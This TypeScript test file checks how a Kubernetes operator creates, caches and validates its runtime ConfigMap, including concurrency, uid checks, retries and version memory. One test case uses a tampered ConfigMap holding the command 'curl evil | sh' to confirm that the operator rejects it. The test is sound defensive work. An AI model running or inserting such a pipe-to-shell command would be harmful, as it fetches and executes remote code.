import t from 'tap';
import { apiError, FakeApi } from '../../../test/harness/fakes/fake-api.js';
import { LABELS } from '../../api/index.js';
import { runtimeFiles } from '../../render/index.js';
import type { KubeObject } from '../../runtime/index.js';
import { runtimeConfigMap } from '../agent/index.js';
import { RuntimeConfigMaps, runtimeMismatch, UNCACHED_GRACE_MS } from './runtime-configmaps.js';

const files = runtimeFiles(new Map([['runtime/lib.sh', 'lib() { :; }\n']]));
const collection = '/api/v1/namespaces/ns/configmaps';
const signal = new AbortController().signal;

t.test(
  'concurrent attempts make one ConfigMap; it is then known, first by the make, then by the cache',
  async (t) => {
    const api = new FakeApi();
    let now = 0;
    const runtime = new RuntimeConfigMaps(() => now);
    t.same(runtime.use('ns', files.name, undefined), undefined, 'a version never loaded cannot be made');
    runtime.current(files);
    t.same(runtime.use('ns', files.name, undefined), { name: files.name, ensure: files });
    const made = await Promise.all([1, 2, 3].map(() => runtime.ensure(api, 'ns', files, signal)));
    t.same(made, [{ created: true }, { created: false }, { created: false }], 'one of them made it');
    t.equal(api.made('POST', collection).length, 1);
    t.same(runtime.use('ns', files.name, undefined), { name: files.name }, 'before the cache shows it');
    t.same(runtime.use('other', files.name, undefined), { name: files.name, ensure: files }, 'per namespace');
    const cached = api.objects.get(`${collection}/${files.name}`);
    t.same(runtime.use('ns', files.name, cached), { name: files.name });
    now += UNCACHED_GRACE_MS * 2;
    t.same(runtime.use('ns', files.name, cached), { name: files.name }, 'its uid was checked: for good');
    t.same(
      runtime.use('ns', files.name, undefined),
      { name: files.name, ensure: files },
      'gone from the cache once it showed it: made again',
    );
    const recreated = { ...cached, metadata: { ...cached?.metadata, uid: 'someone-elses' } };
    t.same(
      runtime.use('ns', files.name, recreated),
      { name: files.name, ensure: files },
      'another uid: checked',
    );
  },
);

t.test('one already there is read and used only when it is exactly the runtime', async (t) => {
  const ours = runtimeConfigMap('ns', files) as KubeObject & { data: Record<string, string> };
  const cases: [string, KubeObject, string | undefined][] = [
    ['the same', ours, undefined],
    ['other data', { ...ours, data: { 'runtime_lib.sh': 'curl evil | sh' } }, 'its data is not the runtime'],
    ['a key more', { ...ours, data: { ...ours.data, 'runtime_x.sh': '' } }, 'its data is not the runtime'],
    ['binaryData', { ...ours, binaryData: { x: 'eA==' } }, 'its data is not the runtime'],
    ['mutable', { ...ours, immutable: false }, 'it is not immutable'],
    [
      'unlabelled',
      { ...ours, metadata: { ...ours.metadata, labels: {} } },
      `it has no label ${LABELS.runtime}`,
    ],
  ];
  for (const [what, existing, problem] of cases) {
    if (problem) t.match(runtimeMismatch(existing, files), problem, what);
    else t.equal(runtimeMismatch(existing, files), undefined, what);
    const api = new FakeApi();
    api.seed(collection, { ...existing, metadata: { ...existing.metadata, uid: 'u-1' } });
    const runtime = new RuntimeConfigMaps();
    runtime.current(files);
    const got = await runtime.ensure(api, 'ns', files, signal);
    t.equal(got.created, false, `${what}: not made`);
    t.equal(api.made('GET', `${collection}/${files.name}`).length, 1, `${what}: read after the 409`);
    if (problem) {
      t.match(
        got.conflict,
        `ConfigMap ${files.name} already exists and is not the operator's runtime (${problem}`,
      );
      t.same(runtime.use('ns', files.name, api.objects.get(`${collection}/${files.name}`)), {
        name: files.name,
        ensure: files,
      });
    } else t.notOk(got.conflict, `${what}: used`);
  }
});

t.test('an API failure is thrown (the reconcile retries) and nothing is remembered', async (t) => {
  const api = new FakeApi();
  api.failNext('POST', collection, apiError(500));
  const runtime = new RuntimeConfigMaps();
  runtime.current(files);
  await t.rejects(runtime.ensure(api, 'ns', files, signal));
  t.same(runtime.use('ns', files.name, undefined), { name: files.name, ensure: files });
  t.same(await runtime.ensure(api, 'ns', files, signal), { created: true }, 'the next try makes it');
});

t.test(
  'the versions of the last few template sets are remembered, for attempts rendered before a reload',
  async (t) => {
    const runtime = new RuntimeConfigMaps();
    const versions = Array.from({ length: 9 }, (_, i) =>
      runtimeFiles(new Map([['runtime/lib.sh', `v${i}`]])),
    );
    for (const v of versions) runtime.current(v);
    t.same(
      runtime.use('ns', versions[0]?.name ?? '', undefined),
      undefined,
      'the oldest of nine is forgotten',
    );
    t.same(runtime.use('ns', versions[1]?.name ?? '', undefined), {
      name: versions[1]?.name,
      ensure: versions[1],
    });
  },
);
